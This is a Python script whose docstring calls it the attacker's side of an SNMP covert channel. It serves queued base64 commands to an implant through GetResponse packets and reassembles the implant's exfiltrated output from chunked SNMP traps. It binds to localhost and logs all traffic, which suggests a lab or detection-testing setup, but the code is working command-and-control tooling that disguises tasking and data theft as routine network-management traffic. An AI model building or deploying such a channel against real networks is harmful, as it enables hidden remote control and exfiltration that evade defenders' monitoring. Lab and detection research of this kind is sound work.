#!/usr/bin/env python3
"""The attacker's SNMP side (runs as labremote): an "agent" on UDP --agent-port
that answers GetRequests for one OID with the next queued task (queue dir:
N.cmd files -> 'T<N> <base64 command>', else 'idle'), and a trap receiver on
UDP --trap-port that reassembles the implant's answers from SNMPv2c traps
(varbind strings '<N>.<seq>.<base64 chunk>', last chunk '<N>.<seq>.=') into
out/N.ans. Every packet is logged. Stops after --lifetime seconds."""
import argparse, base64, os, select, socket, time


def tlv(data, i):
    t = data[i]; i += 1
    l = data[i]; i += 1
    if l & 0x80:
        n = l & 0x7f
        l = int.from_bytes(data[i:i + n], "big"); i += n
    return t, data[i:i + l], i + l


def parse(data):
    """BER into nested lists of (tag, value)"""
    out, i = [], 0
    while i < len(data):
        t, v, i = tlv(data, i)
        if t & 0x20:  # constructed
            out.append((t, parse(v)))
        else:
            out.append((t, v))
    return out


def enc_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def enc(t, v):
    return bytes([t]) + enc_len(len(v)) + v


def enc_int(n):
    return enc(0x02, n.to_bytes(max(1, (n.bit_length() + 8) // 8), "big", signed=True))


def oid_str(v):
    first = v[0]
    parts, n = [first // 40, first % 40], 0
    for b in v[1:]:
        n = (n << 7) | (b & 0x7f)
        if not b & 0x80:
            parts.append(n); n = 0
    return ".".join(map(str, parts))


def strings(node, acc):
    for t, v in node:
        if isinstance(v, list):
            strings(v, acc)
        elif t == 0x04:
            acc.append(v)
    return acc


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--agent-port", type=int, required=True)
    ap.add_argument("--trap-port", type=int, required=True)
    ap.add_argument("--queue", required=True)
    ap.add_argument("--out", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--lifetime", type=int, default=900)
    a = ap.parse_args()
    ag = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); ag.bind(("127.0.0.1", a.agent_port))
    tr = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); tr.bind(("127.0.0.1", a.trap_port))
    logf = open(a.log, "a", buffering=1)
    served, parts = set(), {}
    end = time.time() + a.lifetime
    while time.time() < end:
        r, _, _ = select.select([ag, tr], [], [], 1)
        for s in r:
            data, peer = s.recvfrom(65535)
            stamp = time.strftime("%H:%M:%S", time.gmtime())
            try:
                msg = parse(data)[0][1]
            except Exception as e:
                logf.write("%s %s:%d undecodable (%s)\n" % (stamp, peer[0], peer[1], e)); continue
            comm = msg[1][1].decode("latin-1")
            pdu_tag, pdu = msg[2]
            if s is ag and pdu_tag == 0xa0:
                reqid = pdu[0][1]
                oid = pdu[3][1][0][1][0][1]
                task = b"idle"
                for f in sorted(os.listdir(a.queue), key=lambda x: int(x.split(".")[0]) if x.split(".")[0].isdigit() else 0):
                    if f.endswith(".cmd") and f not in served:
                        n = f.split(".")[0]
                        cmd = open(os.path.join(a.queue, f), "rb").read()
                        task = b"T" + n.encode() + b" " + base64.b64encode(cmd)
                        served.add(f)
                        break
                vb = enc(0x30, enc(0x30, enc(0x06, oid) + enc(0x04, task)))
                resp = enc(0x30, enc_int(1) + enc(0x04, comm.encode("latin-1")) +
                           enc(0xa2, enc(0x02, reqid) + enc_int(0) + enc_int(0) + vb))
                ag.sendto(resp, peer)
                logf.write("%s get %s community=%s oid=%s -> %s\n" % (stamp, peer[0], comm, oid_str(oid), task[:60].decode()))
            elif s is tr:
                vals = [v.decode("latin-1") for v in strings([msg[2]], [])]
                logf.write("%s trap %s community=%s %s\n" % (stamp, peer[0], comm, " ".join(v[:70] for v in vals)))
                for v in vals:
                    bits = v.split(".", 2)
                    if len(bits) != 3 or not bits[0].isdigit():
                        continue
                    n, seq, chunk = bits[0], int(bits[1]), bits[2]
                    if chunk == "=":
                        body = "".join(c for _, c in sorted(parts.pop(n, {}).items()))
                        try:
                            txt = base64.b64decode(body)
                        except Exception:
                            txt = body.encode()
                        with open(os.path.join(a.out, n + ".tmp"), "wb") as fh:
                            fh.write(txt)
                        os.rename(os.path.join(a.out, n + ".tmp"), os.path.join(a.out, n + ".ans"))
                    else:
                        parts.setdefault(n, {})[seq] = chunk


if __name__ == "__main__":
    main()
